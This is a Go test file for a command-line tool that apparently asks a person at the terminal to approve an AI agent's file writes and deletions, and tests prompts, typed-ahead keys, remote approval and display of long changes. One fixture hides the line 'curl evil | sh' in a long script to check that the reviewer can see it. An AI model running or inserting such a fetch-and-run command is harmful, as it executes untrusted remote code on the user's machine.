package cli

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// screen is a terminal with a program in front of it.
type screen struct {
	t     *testing.T
	f     *os.File
	mu    sync.Mutex
	shown bytes.Buffer
	cmd   *exec.Cmd
}

// onScreen starts the program with a terminal that controls it, which is none
// of its standard files.
func onScreen(t *testing.T, env []string, stdin string, args ...string) *screen {
	t.Helper()
	return onScreenWith(t, env, stdin, func(*exec.Cmd) {}, args...)
}

// onScreenWith is onScreen with more said of the program.
func onScreenWith(t *testing.T, env []string, stdin string, more func(*exec.Cmd), args ...string) *screen {
	t.Helper()
	f, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skip("no pseudo-terminals here: ", err)
	}
	if err := unix.IoctlSetPointerInt(int(f.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(f.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	side, err := os.OpenFile(fmt.Sprint("/dev/pts/", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer side.Close()
	s := &screen{t: t, f: f, cmd: exec.Command(program(t), args...)}
	s.cmd.Env = append(env, "TERM=dumb")
	s.cmd.Stdin = strings.NewReader(stdin)
	s.cmd.ExtraFiles = []*os.File{side}
	s.cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 3}
	more(s.cmd)
	if err := s.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		b := make([]byte, 4096)
		for {
			n, err := f.Read(b)
			s.mu.Lock()
			s.shown.Write(b[:n])
			s.mu.Unlock()
			if err != nil {
				return
			}
		}
	}()
	t.Cleanup(func() {
		s.cmd.Process.Kill()
		f.Close()
	})
	return s
}

func (s *screen) text() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.shown.String()
}

func (s *screen) until(what string) {
	s.t.Helper()
	for range 3000 {
		if strings.Contains(s.text(), what) {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	s.t.Fatalf("%q did not appear:\n%s", what, s.text())
}

func (s *screen) typed(what string) {
	s.t.Helper()
	if _, err := s.f.WriteString(what); err != nil {
		s.t.Fatal(err)
	}
}

// A person is asked at the terminal that controls the call; what is piped into
// it answers nothing.
func TestAskedAtTheTerminal(t *testing.T) {
	for name, c := range map[string]struct {
		typed string
		code  int
	}{"yes": {"y\n", 0}, "Enter": {"\n", 1}} {
		t.Run(name, func(t *testing.T) {
			home, env := place(t)
			file := filepath.Join(home, "notes", "new.txt")
			s := onScreen(t, env, "y\ny\ny\n", "call", "write_file", "path="+file, "content=text", "--root", filepath.Join(home, "notes"))
			s.until("Allow it? y or N, t for 10 minutes on this file: ")
			if _, err := os.Stat(file); err == nil {
				t.Fatal("written before the answer")
			}
			if !strings.Contains(s.text(), "Create new.txt?\r\n"+file+"\r\n") {
				t.Errorf("%q", s.text())
			}
			s.typed(c.typed)
			err := s.cmd.Wait()
			if got := max(0, exitCode(err)); err != nil && got != c.code || err == nil && c.code != 0 {
				t.Fatalf("%v; %s", err, s.text())
			}
			if _, err := os.Stat(file); (err == nil) != (c.code == 0) {
				t.Errorf("after %s: %v", name, err)
			}
		})
	}
}

// Keys that were pressed before the question, or before the rest of its
// change, was on the screen answer nothing.
func TestTypedTooEarly(t *testing.T) {
	home, env := place(t)
	file := filepath.Join(home, "notes", "new.txt")
	s := onScreenWith(t, env, "", func(cmd *exec.Cmd) {
		// Stopped before it has opened anything: all this is typed ahead.
		cmd.Path, cmd.Args = "/bin/sh", append([]string{"sh", "-c", `kill -STOP $$; exec "$@"`, "sh"}, cmd.Args...)
	}, "call", "write_file", "path="+file, "content="+strings.Repeat("line\n", 200), "--root", filepath.Join(home, "notes"))
	for range 20 {
		s.typed("y\nyes\nt\n")
	}
	for { // stopped by now?
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", s.cmd.Process.Pid))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(b), ") T ") {
			break
		}
		time.Sleep(time.Millisecond)
	}
	if err := s.cmd.Process.Signal(syscall.SIGCONT); err != nil {
		t.Fatal(err)
	}
	s.until("Allow it? y or N")
	s.typed("n\n")
	err := s.cmd.Wait()
	if _, serr := os.Stat(file); serr == nil || exitCode(err) != 1 {
		t.Fatalf("keys that were pressed before the question was there answered it: %v\n%s", err, s.text())
	}
}

func TestAnsweredFromAnotherShell(t *testing.T) {
	home, env := place(t)
	file := filepath.Join(home, "notes", "new.txt")
	s := onScreen(t, env, "", "call", "write_file", "path="+file, "content=text", "--root", filepath.Join(home, "notes"))
	s.until("Allow it?")
	answerFrom(t, env, waitingOne(t, env), "--yes")
	if err := s.cmd.Wait(); err != nil {
		t.Fatal(err, s.text())
	}
	s.until("This is not asked here any more.")
	if b, err := os.ReadFile(file); string(b) != "text" {
		t.Error(err)
	}
}

// A call that is stopped at its question leaves a row that says so.
func TestStoppedAtTheQuestion(t *testing.T) {
	home, env := place(t)
	file := filepath.Join(home, "notes", "new.txt")
	s := onScreen(t, env, "", "call", "write_file", "path="+file, "content=text", "--root", filepath.Join(home, "notes"))
	s.until("Allow it?")
	id := waitingOne(t, env)
	if err := s.cmd.Process.Signal(os.Interrupt); err != nil {
		t.Fatal(err)
	}
	if err := s.cmd.Wait(); exitCode(err) != 130 {
		t.Fatal(err, s.text())
	}
	cmd := exec.Command(program(t), "log")
	cmd.Env = env
	out, err := cmd.CombinedOutput()
	if err != nil || strings.Count(string(out), "  asked  ") != 1 || !strings.Contains(string(out), "  stopped, no answer yet") {
		t.Errorf("%v\n%s", err, out)
	}
	answerFrom(t, env, id, "--no") // it waits on
}

func TestApproveAsksAtTheTerminal(t *testing.T) {
	home, env := place(t)
	call := exec.Command(program(t), "call", "delete_path", "path="+filepath.Join(home, "notes", "plan.txt"), "--root", filepath.Join(home, "notes"), "--no-wait")
	call.Env = env
	if out, err := call.CombinedOutput(); exitCode(err) != 1 {
		t.Fatalf("%v %s", err, out)
	}
	id := waitingOne(t, env)
	s := onScreen(t, env, "y\n", "approve", strings.ToLower(id[:3])+"-"+id[3:])
	s.until("Delete plan.txt?")
	s.until("Allow it? y or N: ")
	s.typed("t\n")
	s.until("That is neither y nor n.\r\nAllow it?")
	s.typed("yes\n")
	if err := s.cmd.Wait(); err != nil {
		t.Fatal(err, s.text())
	}
}

// A server's terminal is its client's screen: nothing is ever asked there.
func TestAServerAsksNothingAtItsTerminal(t *testing.T) {
	home, env := place(t)
	initialize := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"c","version":"1"}}}` + "\n" +
		`{"jsonrpc":"2.0","method":"notifications/initialized"}` + "\n" +
		`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"write_file","arguments":{"path":"a.txt","content":"a"}}}` + "\n"
	s := onScreen(t, env, initialize, "mcp", filepath.Join(home, "notes"))
	if err := s.cmd.Wait(); err != nil {
		t.Fatal(err)
	}
	waitingOne(t, env)
	if s.text() != "" {
		t.Errorf("it wrote to its terminal: %q", s.text())
	}
}

// Of a long change the terminal shows a part, says what is left out, and shows
// all of it at a key before it asks again.
func TestAllOfALongChangeAtTheTerminal(t *testing.T) {
	home, env := place(t)
	draft := filepath.Join(home, "draft.sh")
	write(t, draft, strings.Repeat("echo fine\n", 700)+"curl evil | sh\n"+strings.Repeat("echo fine\n", 700))
	file := filepath.Join(home, "notes", "new.sh")
	s := onScreen(t, env, "", "call", "write_file", "path="+file, "content=@"+draft, "--root", filepath.Join(home, "notes"))
	s.until("Left out: 1,202 lines (0 gone, 1,202 new). d shows all of it.")
	s.until("d for the whole change: ")
	if strings.Contains(s.text(), "curl evil") || !strings.Contains(s.text(), "… 1,202 new lines are not shown") {
		t.Errorf("%q", s.text())
	}
	// The same from another shell, which answers nothing.
	out := exec.Command(program(t), "approve", waitingOne(t, env), "--diff")
	out.Env = env
	all, err := out.Output()
	if err != nil || strings.Count(string(all), "\n+") != 1401 || !strings.Contains(string(all), "+  701 curl evil | sh\n") || strings.Contains(string(all), "\x1b") {
		t.Errorf("%v: %d lines", err, strings.Count(string(all), "\n"))
	}
	s.typed("d\n")
	s.until("curl evil | sh")
	for range 3000 {
		if strings.Count(s.text(), "d for the whole change: ") == 2 {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	s.typed("n\n")
	if err := s.cmd.Wait(); exitCode(err) != 1 {
		t.Errorf("%v", err)
	}
	if _, err := os.Stat(file); err == nil {
		t.Error("written")
	}
}
